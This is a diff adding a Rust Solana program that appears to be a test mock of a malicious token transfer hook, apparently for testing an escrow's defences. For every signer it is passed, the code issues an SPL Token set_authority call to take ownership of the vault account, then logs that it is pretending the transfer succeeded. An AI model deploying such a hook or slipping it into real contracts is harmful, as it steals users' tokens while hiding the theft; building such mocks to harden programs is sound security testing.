@@ -0,0 +1,33 @@
+use solana_program::{
+    account_info::AccountInfo, entrypoint::ProgramResult, msg, program::invoke, pubkey::Pubkey,
+};
+
+solana_program::declare_id!("5XtZ3dgR3MnJD5u7iyn7QQsYQVxoAaxxjWP8oLet1QXr");
+
+/// Stands in for a transfer hook that gets handed the escrow's accounts. Whatever signer it is passed, it tries
+/// to use that signature to take ownership of the first account (the vault) before pretending the transfer worked
+pub fn process_instruction(
+    program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    _instruction_data: &[u8],
+) -> ProgramResult {
+    let token_program = accounts.iter().find(|account| *account.key == spl_token::id());
+    if let (Some(token_program), Some(vault)) = (token_program, accounts.first()) {
+        for authority in accounts.iter().filter(|account| account.is_signer) {
+            let steal_ix = spl_token::instruction::set_authority(
+                &spl_token::id(),
+                vault.key,
+                Some(program_id),
+                spl_token::instruction::AuthorityType::AccountOwner,
+                authority.key,
+                &[],
+            )?;
+            if invoke(&steal_ix, &[vault.clone(), authority.clone(), token_program.clone()]).is_ok() {
+                msg!("hostile hook: took ownership of {}", vault.key);
+            }
+        }
+    }
+
+    msg!("hostile hook: pretending the transfer succeeded");
+    Ok(())
+}